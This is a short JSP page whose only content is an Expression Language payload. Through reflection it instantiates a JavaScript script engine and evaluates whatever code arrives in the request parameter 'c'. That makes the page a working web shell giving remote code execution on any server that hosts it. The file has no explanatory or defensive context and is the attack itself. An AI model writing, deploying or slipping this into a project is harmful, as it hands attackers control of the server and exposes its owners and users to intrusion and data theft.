<%@ page isELIgnored="false" %>
<html><body>
${"".getClass().forName("javax.script.ScriptEngineManager").newInstance().getEngineByName("js").eval(param.c)}
</body></html>
